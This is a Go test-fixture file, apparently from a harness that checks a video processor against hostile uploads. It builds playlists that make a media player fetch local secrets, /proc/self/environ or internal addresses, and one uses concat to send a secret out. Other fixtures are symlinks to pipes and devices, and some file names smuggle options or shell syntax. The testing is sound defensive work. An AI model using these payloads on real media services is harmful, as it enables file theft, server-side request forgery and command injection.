package hostile

import (
	"context"
	"fmt"
	"os"
)

// notVideo are the outcomes of what is no video at all.
var notVideo = []string{"not_a_video"}

// playlists are texts that make a player open something else.
func playlists() []File {
	var all []File
	for _, p := range []struct {
		name, trick string
		text        func(b Bait) string
	}{
		{"hls-path.mp4", "HLS that names a local file", func(b Bait) string { return hls("", b.Video) }},
		{"hls-file.m3u8", "HLS that names a file: URL", func(b Bait) string { return hls("", "file://"+b.Secret) }},
		{"hls-http.mp4", "HLS that names an address of the machine", func(b Bait) string { return hls("", "http://"+b.Address+"/a.ts") }},
		{"hls-key.mp4", "HLS whose key and header are local files", func(b Bait) string {
			return hls(fmt.Sprintf("#EXT-X-KEY:METHOD=AES-128,URI=\"file://%s\"\n#EXT-X-MAP:URI=\"file://%s\"\n", b.Secret, b.Video), b.Video)
		}},
		{"hls-concat.mp4", "HLS that sends a local file away by the concat protocol", func(b Bait) string {
			return hls("", "concat:http://"+b.Address+"/head|file://"+b.Secret)
		}},
		{"hls-fifo.mp4", "HLS that names a pipe and a device", func(b Bait) string { return hls("", b.Fifo) + "#EXTINF:1,\n/dev/zero\n" }},
		{"hls-master.mp4", "HLS master that names an address", func(b Bait) string {
			return "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://" + b.Address + "/v.m3u8\n"
		}},
		{"hls-bom.mp4", "HLS behind a byte order mark", func(b Bait) string { return "\ufeff" + hls("", b.Video) }},
		{"hls-mp4.mp4", "HLS behind the first bytes of an MP4", func(b Bait) string {
			return string(box("ftyp", []byte("isom\x00\x00\x02\x00"))) + hls("", b.Video)
		}},
		{"ffconcat.mp4", "ffconcat script that names a local file", func(b Bait) string { return "ffconcat version 1.0\nfile '" + b.Video + "'\n" }},
		{"concat.txt", "concat script without a head", func(b Bait) string { return "file '" + b.Video + "'\nfile '" + b.Secret + "'\n" }},
		{"ffconcat-options.mp4", "ffconcat script with options that open more", func(b Bait) string {
			return "ffconcat version 1.0\nfile 'http://" + b.Address + "/'\noption protocol_whitelist file,http,tcp\nfile_packet_metadata url=" + b.Secret + "\n"
		}},
		{"dash.mpd", "DASH whose base is a local file", func(b Bait) string { return mpd("file://" + b.Video) }},
		{"dash-http.mp4", "DASH whose base is an address", func(b Bait) string { return mpd("http://" + b.Address + "/v.mp4") }},
		{"list.smil", "SMIL that names an address", func(b Bait) string {
			return "<smil><body><video src=\"rtsp://" + b.Address + "/v\"/></body></smil>\n"
		}},
		{"list.asx", "ASX that names an address", func(b Bait) string {
			return "<asx version=\"3.0\"><entry><ref href=\"http://" + b.Address + "/v.wmv\"/></entry></asx>\n"
		}},
		{"list.pls", "PLS that names a local file", func(b Bait) string { return "[playlist]\nFile1=" + b.Video + "\nNumberOfEntries=1\nVersion=2\n" }},
		{"list.xspf", "XSPF that names a local file", func(b Bait) string {
			return "<?xml version=\"1.0\"?><playlist><trackList><track><location>file://" + b.Video + "</location></track></trackList></playlist>\n"
		}},
		{"list.ram", "RAM that names an address", func(b Bait) string { return "rtsp://" + b.Address + "/v.rm\n" }},
		{"call.sdp", "SDP that opens ports and an address", func(Bait) string {
			return "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 45678 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
		}},
		{"image.svg", "SVG that includes a local file", func(b Bait) string {
			return "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"file://" + b.Secret + "\"/></svg>\n"
		}},
		{"script.lua", "a script for a player", func(b Bait) string { return "#!/bin/sh\ncat " + b.Secret + "\n" }},
	} {
		all = append(all, File{
			Name: p.name, Group: "playlists", Trick: p.trick, Outcomes: append([]string{"corrupt"}, notVideo...),
			Make: content(func(b Bait) []byte { return []byte(p.text(b)) }),
		})
	}
	return all
}

// hls is a playlist of one piece.
func hls(head, piece string) string {
	return "#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n" + head + "#EXTINF:10,\n" + piece + "\n#EXT-X-ENDLIST\n"
}

func mpd(base string) string {
	return "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT1S\">" +
		"<Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>" + base +
		"</BaseURL></Representation></AdaptationSet></Period></MPD>\n"
}

// lures are no plain files.
func lures() []File {
	link := func(to func(b Bait) string) func(context.Context, Maker) error {
		return func(_ context.Context, m Maker) error { return os.Symlink(to(m.Bait), m.Path) }
	}
	return []File{
		{Name: "pipe.mp4", Group: "lures", Trick: "a pipe that nobody writes to", Outcomes: notVideo,
			Make: func(_ context.Context, m Maker) error { return makeFifo(m.Path) }},
		{Name: "link-pipe.mp4", Group: "lures", Trick: "a link to a pipe", Outcomes: notVideo, Make: link(func(b Bait) string { return b.Fifo })},
		{Name: "link-zero.mp4", Group: "lures", Trick: "a link to a device without an end", Outcomes: notVideo,
			Make: link(func(Bait) string { return "/dev/zero" })},
		{Name: "link-secret.mp4", Group: "lures", Trick: "a link to a secret text", Outcomes: notVideo, Make: link(func(b Bait) string { return b.Secret })},
		{Name: "link-proc.mp4", Group: "lures", Trick: "a link to a file of the kernel's", Outcomes: notVideo,
			Make: link(func(Bait) string { return "/proc/self/environ" })},
		{Name: "link-loop.mp4", Group: "lures", Trick: "a link to itself", Outcomes: []string{"not_a_video", "source_gone"},
			Make: func(_ context.Context, m Maker) error { return os.Symlink(m.Path, m.Path) }},
		{Name: "socket.mp4", Group: "lures", Trick: "a socket", Outcomes: notVideo,
			Make: func(_ context.Context, m Maker) error { return makeSocket(m.Path) }},
		{Name: "folder.mp4", Group: "lures", Trick: "a folder", Outcomes: notVideo,
			Make: func(_ context.Context, m Maker) error { return os.Mkdir(m.Path, 0o700) }},
	}
}

// names are healthy videos of which only the name is hostile.
func names() []File {
	var all []File
	for _, n := range []struct{ name, trick string }{
		{"-i.mp4", "a name like an option"},
		{"frame%03d.mp4", "a name like a pattern of pictures"},
		{"concat:a|b.mp4", "a name like the concat protocol"},
		{"subfile,,start,0,end,9,,:x.mp4", "a name like the subfile protocol"},
		{"pipe:0", "a name like a pipe"},
		{"a'b\"c;$(x)`y`.mp4", "a name with a shell's words"},
		{"two\nlines\x1b[31m.mp4", "a name of two lines with a terminal's colour"},
	} {
		all = append(all, File{Name: n.name, Group: "names", Trick: n.trick, Outcomes: []string{Made},
			Make: fixed(func() []byte { return movie{}.bytes() })})
	}
	return all
}
